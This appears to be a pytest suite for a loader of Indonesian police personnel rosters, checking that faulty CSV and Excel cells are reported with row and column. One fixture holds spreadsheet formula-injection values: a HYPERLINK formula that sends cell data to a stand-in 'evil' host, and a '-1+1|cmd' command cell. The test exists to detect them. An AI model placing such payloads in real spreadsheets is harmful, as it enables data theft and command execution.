"""Rosters that once went into letters wrongly, or stopped the program: each is told with row and column."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from sopgen.errors import SpecError
from sopgen.read.roster.people import Roster, load_roster

HEADS = b"nama,pangkat,nrp,jabatan\n"
BUDI = ["Budi", "BRIPKA", "76050993", "Anggota"]


@pytest.fixture(autouse=True)
def english(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOPGEN_LANG", "en")


def read(folder: Path, content: bytes | str, ending: str = "csv", sheet: str = "") -> Roster:
    path = folder / f"daftar.{ending}"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return load_roster(path, sheet)


def told(folder: Path, content: bytes | str, ending: str = "csv", sheet: str = "") -> list[str]:
    with pytest.raises(SpecError) as caught:
        read(folder, content, ending, sheet)
    errors = [problem for problem in caught.value.problems if problem.code != "RO02"]
    assert all(p.fix and p.severity == "error" and p.code == "RO01" for p in errors)
    return [f"{p.line}:{p.column} {p.what}" for p in errors]


def test_what_a_reader_should_know_is_told_beside_the_faults(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as caught:
        read(tmp_path, "nama,pangkat,nrp\nBudi,BRIPKA,7605\nKasim,,76050993\nJumlah,2,\n")
    assert ("RO02", 4) in [(one.code, one.line) for one in caught.value.problems]


def noted(roster: Roster) -> list[str]:
    return [f"{p.line}:{p.column} {p.severity}: {p.what}" for p in roster.notes]


def book(folder: Path, rows: list[list[Any]], change: Callable[[Any], None] | None = None) -> bytes:
    made = openpyxl.Workbook()
    for row in rows:
        made.active.append(row)  # type: ignore[union-attr]
    if change:
        change(made)
    made.save(folder / "buku.xlsx")
    return (folder / "buku.xlsx").read_bytes()


CSV_FAULTS = {
    "c01_formula": (
        HEADS + b'"=HYPERLINK(""http://evil/?""&A1,""klik"")",BRIPKA,76050993,Anggota\n'
        b'+62811,BRIPDA,-1+1|cmd,@SUM(A1)\n"\t=1+1",BRIPTU,01020304,Anggota\n',
        [f"{place} the cell holds a formula" for place in ("2:1", "3:1", "3:3", "3:4", "4:1")],
    ),
    "c09_dup_header": (
        b"nama,nrp,nama\nBudi,76050993,Agus\n",
        ["1:1 the heads lack Pangkat", "1:3 the list has this head twice, in columns 1, 3"],
    ),
    "c09b-dup-header-otherwise-valid": (
        b"nama,pangkat,nrp,jabatan,nama\nBudi,BRIPKA,76050993,Anggota,Agus\n",
        ["1:5 the list has this head twice, in columns 1, 5"],
    ),
    "c10_ragged": (
        HEADS + b"Budi,BRIPKA\nAgus,AIPDA,77050993,Anggota,lebih,kolom\n",
        ["2:3 Bripka without NRP or NIP", '3:5 "lebih" stands under no head'],
    ),
    "c10b-rank-without-nrp": (HEADS + b"Budi,BRIPKA,,Kanit\n", ["2:3 Bripka without NRP or NIP"]),
    "c11_unclosed_quote": (
        HEADS + b'"Budi,BRIPKA,76050993,Anggota\nAgus,AIPDA,77050993,Anggota\nSiti,AIPDA,78050993,Anggota\n',
        ["2:1 the quotes of this row do not close"],
    ),
    "an unclosed quote in the fourth column": (
        HEADS + b'Agus,AIPDA,77050993,Anggota\nBudi,BRIPKA,76050993,"Anggota\n',
        ["3:4 the quotes of this row do not close"],
    ),
    "c13_nul": (HEADS + b"Bu\0di,BRIPKA,76050993,Anggota\n", ["2:1 the cell holds the invisible character U+0000"]),
    "c16_arabic_digits": (
        HEADS + "Budi,BRIPKA,\u0667\u0666050993,Anggota\nAgus,AIPDA,\uff1777050993,Anggota\n".encode(),
        ['2:3 "\u0667" is a digit of another script (U+0667)', '3:3 "\uff17" is a digit of another script (U+FF17)'],
    ),
    "c17_nbsp_zw": (
        HEADS + "Budi\u00a0 Santoso ,BRIPKA,76050993\u200b,Anggota\n".encode(),
        ["2:3 the cell holds the invisible character U+200B"],
    ),
    "c18_huge_field": (
        HEADS + b'Agus,AIPDA,77050993,"' + b"A" * 200_000 + b'"\n',
        ["2:4 the line has 200023 letters, a row has 20000 at most"],
    ),
    "c21_wrong_month": (
        HEADS + b"Budi,BRIPKA,76139993,Anggota\n",
        ['2:3 NRP "76139993" names month 13: year and month of birth begin it'],
    ),
    "rows parted otherwise than the heads": (
        b"nama;pangkat;nrp;jabatan\nAgus;AIPDA;77050993;Anggota\nBudi,BRIPKA,76050993,Anggota\n",
        ['3:1 this row is parted by ",", those above by ";"'],
    ),
    "a web page": (b"<html><table><tr><td>Nama</td></tr></table>", ["1:1 this is no CSV file, it begins like .html"]),
    "c23_xlsx_named_csv": (b"PK\x03\x04" + b"\0" * 40, ["1:1 this is no CSV file, it begins like .xlsx, .docx"]),
    "r-bidi-name": (
        HEADS + "Si\u202eti,BRIPKA,76050995,Anggota\nBu\u200bdi,BRIPKA,76050994,Ang\u2060gota\u200e\n".encode(),
        [
            "2:1 the cell holds the invisible character U+202E",
            "3:1 the cell holds the invisible character U+200B",
            "3:4 the cell holds the invisible character U+2060",
        ],
    ),
    "r-emoji": (
        HEADS + "Agus,BRIPKA,76050992,Anggota\nBudi 🚔,BRIPKA,76050993,Anggota\n".encode(),
        ['3:1 the character "🚔" (U+1F694 ONCOMING POLICE CAR) is not in Arial'],
    ),
    "r-name-300": (
        HEADS + b"Agus,,,Warga\nRaden" + b" Mas" * 90 + b" Budi,,,Warga\n",
        ["3:1 the text has 370 letters, 200 have room"],
    ),
    "r-one-bad-byte": (
        HEADS + b"Budi \xc3\x83,BRIPKA,76050993,Anggota\nCaf\xe9 \x80,BRIPKA,76050994,Anggota\n",
        ["3:1 byte E9 is no UTF-8, as the rest of the file is"],
    ),
    "r-utf16-cut": (
        "nama,pangkat,nrp,jabatan\nBudi,BRIPKA,76050993,Anggota\n".encode("utf-16")[:-1],
        ["2:1 the UTF-16 text is cut or damaged here"],
    ),
    "UTF-16 with half a pair": (
        b"\xff\xfe" + "nama,pangkat,nrp\nA".encode("utf-16-le") + b"\x00\xd8,\x00",
        ["2:1 the UTF-16 text is cut or damaged here"],
    ),
    "a byte that no encoding has": (
        HEADS + b"Budi,BRIPKA,76050993,A\x81\n",
        ["2:4 byte 81 is no letter, neither in UTF-8 nor in Windows-1252"],
    ),
    "case 14": (
        b"No;Nama;Pangkat;NRP;Jabatan;Ket\n1;Satu;AIPTU;00000001;Kanit;\n2;Dua;;00000002;Ba;\n"
        b"3;Tiga;BRIPKA;;Ba;\nJumlah;3 orang;;;;\n",
        ["3:3 00000002 has no rank", "4:4 Bripka without NRP or NIP"],
    ),
    "case 18": (
        b"Nama,Pangkat,NRP,Jabatan,Ket\nBudi,AIPTU,00000001,Ba, Unit Binpolmas, ketua tim\n",
        ['2:6 "ketua tim" stands under no head'],
    ),
    "a name alone where others have numbers": (
        HEADS + b"Budi,BRIPKA,76050993,Anggota\nAgus,,,\n",
        ["3:3 Agus has neither rank nor NRP"],
    ),
    "an NRP and a NIP": (
        b"Nama;Pangkat;NRP;NIP\nBudi;BRIPKA;76050993;197605012000121005\n",
        ["2:4 the row has an NRP and a NIP, a letter names one"],
    ),
    "an officer with a NIP": (
        b"Nama;Pangkat;NIP\nBudi;BRIPKA;197605012000121005\nSiti;PENDA;76050993\n",
        ["2:3 Bripka bears a number of 8 digits (NRP)", "3:3 Penda bears a number of 18 digits (NIP)"],
    ),
    "a NIP without a day": (
        b"Nama;Pangkat;NIP\nBudi;PENDA;197613012000121005\n",
        ['2:3 NIP "197613012000121005" names no day of birth: year, month and day begin it'],
    ),
    "a grade of another rank": (
        b"Nama;Pangkat;NIP\nBudi;Penata (III/b);197605012000121005\n",
        ['2:2 "Penata (III/b)": Penata is grade III/c'],
    ),
    "a rank of nobody": (
        b"Nama;Pangkat;NRP;NIP\nBudi;BRIPKAA;76050993;\nSiti;PENATTA;;197605012000121005\n",
        ['2:2 rank "BRIPKAA" is not known', '3:2 rank "PENATTA" is not known'],
    ),
    "a Cyrillic letter": (
        HEADS + "B\u0443di,BRIPKA,76050993,Anggota\n".encode(),
        ['2:1 "\u0443" (U+0443) is no letter of the Latin script, as the rest of its word is'],
    ),
    "a person below the signature": (
        HEADS + b"Budi,BRIPKA,76050993,Anggota\nMengetahui,,,\nAgus,AIPDA,77050993,Anggota\n",
        ["4:1 the row stands below the signature of row 3"],
    ),
    "rank and number in a long cell": (
        b"Nama;Pangkat/NRP\nBudi;" + b"/," * 9_000 + b"x\n",
        ["2:2 the text has 18001 letters, 200 have room"],
    ),
    "a person without a number below the total": (
        HEADS + b"Budi,BRIPKA,76050993,Ba\nJumlah,1,,\nKasim,,,Warga\nAgus,AIPDA,,Ba\n",
        [
            "4:1 the row stands below the total of row 3, without a number",
            "5:1 the row stands below the total of row 3, without a number",
        ],
    ),
    "a name of dots": (HEADS + b"...,BRIPKA,76050993,Anggota\n", ['2:1 "..." is no name']),
    "rank and number twice": (
        b"Nama;Pangkat/NRP;NRP\nBudi;BRIPKA/76050993;76050993\n",
        ["1:2 rank and number stand in one column and in columns of their own"],
    ),
}


@pytest.mark.parametrize("name", CSV_FAULTS)
def test_a_bad_csv_is_told_with_its_cells(name: str, tmp_path: Path) -> None:
    content, expected = CSV_FAULTS[name]
    assert expected == told(tmp_path, content)


CSV_NOTES = {
    "c04_cp1252": (
        HEADS + b"Ren\xe9 d\x92Arc,BRIPKA,76050993,Anggota\n",
        ["René d\u2019Arc"],
        ["2:1 warning: read as Windows-1252 text; look at René, d\u2019Arc"],
    ),
    "r-jumlah-row": (
        b"Nama;Pangkat;NRP;Jabatan;Ket\nBudi;BRIPKA;76050993;Kanit;\nJumlah 1 orang;;;;\nMengetahui Kasat;;;;\n",
        ["Budi"],
        [
            '3:1 info: a total is left out: "Jumlah 1 orang"',
            '4:1 info: a row of the signature is left out: "Mengetahui Kasat"',
        ],
    ),
    "the total of case 14": (
        b"No;Nama;Pangkat;NRP\n1;Satu;AIPTU;00000001\nJumlah;3 orang;;\n",
        ["Satu"],
        ['3:1 info: a total is left out: "Jumlah 3 orang"'],
    ),
    "title, numbered columns, headings, empty lines, a signature block": (
        b"DAFTAR PERSONEL PAM;;;;\n;;;;\nNo;Nama;Pangkat;NRP;Jabatan\n(1);(2);(3);(4);(5)\nI. SAT BINMAS;;;;\n"
        b"1;Satu;AIPTU;00000001;Kanit\n2;Dua;BRIPKA;00000002;Ba\n3;;;;\nNo;Nama;Pangkat;NRP;Jabatan\n"
        b"4;Tiga;BRIPDA;00000003;Ba\nTotal;;;3;\n;;;;Gorontalo, 1 Desember 2026\n;;;;KASAT BINMAS\n"
        b";;;;CONTOH SATU\n;;;;AKP NRP 00000009\n",
        ["Satu", "Dua", "Tiga"],
        [
            '1:1 info: what stands above the heads is left out: "DAFTAR PERSONEL PAM"',
            '4:1 info: a row of column numbers is left out: "(1) (2) (3) (4) (5)"',
            '5:1 info: a heading is left out: "I. SAT BINMAS"',
            '9:1 info: a row of heads is left out: "No Nama Pangkat NRP Jabatan"',
            '11:1 info: a total is left out: "Total 3"',
            '12:5 info: a row of the signature is left out: "Gorontalo, 1 Desember 2026"',
            '13:5 info: a row of the signature is left out: "KASAT BINMAS"',
            '14:5 info: a row of the signature is left out: "CONTOH SATU"',
            '15:5 info: a row of the signature is left out: "AKP NRP 00000009"',
        ],
    ),
    "a signature whose day is left to write": (
        HEADS + b'Budi,BRIPKA,76050993,Anggota\n,,,"Gorontalo,     Desember 2026"\n,,,"Kota,  ...  Mei  ...."\n',
        ["Budi"],
        [
            '3:4 info: a row of the signature is left out: "Gorontalo, Desember 2026"',
            '4:4 info: a row of the signature is left out: "Kota, ... Mei ...."',
        ],
    ),
    "civilians": (
        HEADS + b"Budi,BRIPKA,76050993,Anggota\nAgus,,,Warga\nTuti,-,-,\n",
        ["Budi", "Agus", "Tuti"],
        ["3:1 warning: without rank and NRP, taken as civilians: rows 3, 4"],
    ),
    "a total of a part, and a civilian whose name begins as a post": (
        HEADS + b"Budi,BRIPKA,76050993,Ba\nJumlah,1,,\nAgus,AIPDA,77050993,Ba\nKasiman,,,Warga\n",
        ["Budi", "Agus", "Kasiman"],
        [
            '3:1 info: a total is left out: "Jumlah 1"',
            "5:1 warning: without rank and NRP, taken as civilians: rows 5",
        ],
    ),
    "a column that no letter needs": (
        b"Nama;Pangkat;NRP;No HP\nBudi;BRIPKA;76050993;0811\n",
        ["Budi"],
        ['1:4 info: column "No HP" is not used'],
    ),
    "case 16": (
        HEADS + b"Muhammadabdurrahmanassyafii,BRIPKA,76050993,BHABINKAMTIBMASPOLSEKKOTAUTARA\n",
        ["Muhammadabdurrahmanassyafii"],
        [
            '2:1 warning: "Muhammadabdurrahmanassyafii" has 27 letters, a column is narrower',
            '2:4 warning: "BHABINKAMTIBMASPOLSEKKOTAUTARA" has 30 letters, a column is narrower',
        ],
    ),
    "another service": (
        b"Nama;Pangkat;NIP\nBudi;Jaksa Madya;197605012000121005\n",
        ["Budi"],
        ['2:2 warning: rank "Jaksa Madya" is not of the table, printed as typed: of another service'],
    ),
    "UTF-16": (
        "Nama;Pangkat;NRP\nBudi;BRIPKA;76050993\n".encode("utf-16"),
        ["Budi"],
        ["1:1 info: read as UTF-16 text"],
    ),
    "UTF-8 with its mark": (b"\xef\xbb\xbfNama;Pangkat;NRP\nBudi;BRIPKA;76050993\n", ["Budi"], []),
}


@pytest.mark.parametrize("name", CSV_NOTES)
def test_what_is_left_out_or_doubtful_is_told_and_nobody_is_ordered_by_it(name: str, tmp_path: Path) -> None:
    content, people, notes = CSV_NOTES[name]
    roster = read(tmp_path, content)
    assert people == [person.name for person in roster.people]
    assert notes == noted(roster)


def test_a_line_break_in_a_cell_is_a_blank(tmp_path: Path) -> None:
    """c12_newline_in_cell, and the tab of case 05."""
    content = HEADS + b'"Budi\nSantoso",BRIPKA,76050993,"Anggota\r\nJaga\tMalam"\n"Agus ",AIPDA,77050993,Ba\n'
    people = read(tmp_path, content).people
    assert [("Budi Santoso", "Anggota Jaga Malam", 2), ("Agus", "Ba", 5)] == [(p.name, p.post, p.row) for p in people]


@pytest.mark.parametrize(
    ("typed", "printed"),
    [
        ("Pembina Utama Muda (IV/c)", "Pembina Utama Muda"),
        ("Penata Muda Tk.I, III/b", "Penda Tk. I"),
        ("PENDA", "Penda"),
        ("PENGATUR TK. I", "Pengatur Tk. I"),
        ("III/d", "Penata Tk. I"),
        ("Gol. II/c", "Pengatur"),
        ("PNS", "PNS"),
    ],
)
def test_ranks_of_civil_servants_are_read_with_their_grades(typed: str, printed: str, tmp_path: Path) -> None:
    roster = read(tmp_path, f'Nama;Pangkat/Gol;NIP\nBudi;"{typed}";197605012000121005\n')
    assert [(printed, "197605012000121005")] == [(p.rank, p.number) for p in roster.people]


def test_numbers_may_stand_in_two_columns(tmp_path: Path) -> None:
    roster = read(tmp_path, "Nama;Pangkat;NRP;NIP\nBudi;BRIPKA;76050993;\nSiti;PENDA;;197605012000121005\n")
    assert ["76050993", "197605012000121005"] == [person.number for person in roster.people]


def test_heads_may_stand_on_two_rows(tmp_path: Path) -> None:
    roster = read(tmp_path, "No;Nama;Polri;;Jabatan\n;;Pangkat;NRP;\n1;Budi;BRIPKA;76050993;Ba\n")
    assert [("Budi", "Bripka", "76050993", "Ba")] == [(p.name, p.rank, p.number, p.post) for p in roster.people]


def test_a_number_cell_may_hold_an_nrp_of_eight_digits(tmp_path: Path) -> None:
    rows: list[list[Any]] = [
        ["Nama", "Pangkat", "NRP", "Ket"],
        ["Budi", "BRIPKA", 76050993, 1],
        ["Agus", "AIPDA", 5050993, ""],
    ]
    assert ["3:3 the cell holds the number 5050993, which may have lost a zero"] == told(
        tmp_path, book(tmp_path, rows), "xlsx"
    )
    people = read(tmp_path, book(tmp_path, rows[:2]), "xlsx").people
    assert [("76050993", "1")] == [(person.number, person.remark) for person in people]


def test_a_number_cell_loses_digits_of_a_nip(tmp_path: Path) -> None:
    content = book(tmp_path, [["Nama", "Pangkat", "NIP"], ["Budi", "PENDA", 197605012000121005]])
    (line,) = told(tmp_path, content, "xlsx")
    assert re.fullmatch(r"2:3 the cell holds the number \S+, Excel keeps 15 digits of one only", line)


def merge(made: Any) -> None:
    made.active.merge_cells("B2:B3")


def formula(made: Any) -> None:
    made.active["A2"] = "=UPPER(D2)"


def hide_column(made: Any) -> None:
    made.active.column_dimensions["C"].hidden = True


def test_a_total_may_be_a_formula(tmp_path: Path) -> None:
    rows = [["nama", "pangkat", "nrp", "jabatan"], BUDI, ["Jumlah", "=COUNTA(A2)", "", ""], ["", "", "", "=A1"]]
    roster = read(tmp_path, book(tmp_path, rows), "xlsx")
    assert ["Budi"] == [person.name for person in roster.people]
    assert '3:1 info: a total is left out: "Jumlah"' in noted(roster)


XLSX_FAULTS: dict[str, tuple[list[list[Any]], Callable[[Any], None] | None, list[str]]] = {
    "case 14, merged": (
        [BUDI, ["Agus", "", "77050993", "Ba"]],
        merge,
        ["3:2 the rank's cell is merged with that of row 2"],
    ),
    "a formula": ([BUDI], formula, ["2:1 the cell holds a formula"]),
    "a hidden column": ([BUDI], hide_column, ["1:3 the column is hidden"]),
    "vt-xlsx": (
        [["Budi_x000B_x", *BUDI[1:]]],
        None,
        ["2:1 the cell holds the invisible character U+000B"],
    ),
    "a cell beside the list": ([[*BUDI, "", "x"]], None, ['2:6 "x" stands under no head']),
}


@pytest.mark.parametrize("name", XLSX_FAULTS)
def test_a_bad_sheet_is_told_with_its_cells(name: str, tmp_path: Path) -> None:
    rows, change, expected = XLSX_FAULTS[name]
    assert expected == told(tmp_path, book(tmp_path, [["nama", "pangkat", "nrp", "jabatan"], *rows], change), "xlsx")


def two_sheets(made: Any) -> None:
    made.create_sheet("Rekap").append(["Jumlah", 1])


def two_lists(made: Any) -> None:
    made.active.title = "Sat Binmas"
    other = made.create_sheet("Polsek")
    other.append(["nama", "pangkat", "nrp"])
    other.append(["Agus", "AIPDA", "77050993"])


def test_the_only_sheet_with_heads_is_read_and_the_others_are_named(tmp_path: Path) -> None:
    roster = read(tmp_path, book(tmp_path, [["nama", "pangkat", "nrp", "jabatan"], BUDI], two_sheets), "xlsx")
    assert ["Budi"] == [person.name for person in roster.people]
    assert ['1:1 info: sheet "Sheet" is read; without the heads of a roster: Rekap'] == noted(roster)


def test_of_several_lists_one_is_asked_for(tmp_path: Path) -> None:
    content = book(tmp_path, [["nama", "pangkat", "nrp", "jabatan"], BUDI], two_lists)
    assert ["1:1 several sheets hold data: Sat Binmas, Polsek"] == told(tmp_path, content, "xlsx")
    assert ["Agus"] == [person.name for person in read(tmp_path, content, "xlsx", "Polsek").people]
    assert ['1:1 there is no sheet "Polres"'] == told(tmp_path, content, "xlsx", "Polres")
    assert ["1:1 a CSV file has no sheets"] == told(tmp_path, HEADS, "csv", "Polsek")


def test_a_folder_is_no_roster(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="this is a folder"):
        load_roster(tmp_path)


def test_faults_end_where_nobody_reads_them(tmp_path: Path) -> None:
    lines = told(tmp_path, HEADS + b"Budi,BRIPKAA,76050993,Ba\n" * 2000)
    assert 501 == len(lines)
    assert "the roster has 500 faults up to this row" in lines[-1]


def test_a_fault_has_its_row_where_the_list_begins_lower(tmp_path: Path) -> None:
    made = openpyxl.Workbook()
    assert made.active is not None
    for row, texts in (
        (3, ("Nama", "Pangkat", "NRP")),
        (4, ("Budi", "BRIPKA", "76050993")),
        (5, ("Agus", "AIPDA", "12")),
    ):
        for column, text in enumerate(texts, 2):
            made.active.cell(row, column, text)
    made.save(tmp_path / "buku.xlsx")
    with pytest.raises(SpecError) as refused:
        load_roster(tmp_path / "buku.xlsx")
    assert [(one.line, one.column) for one in refused.value.problems] == [(5, 4)]
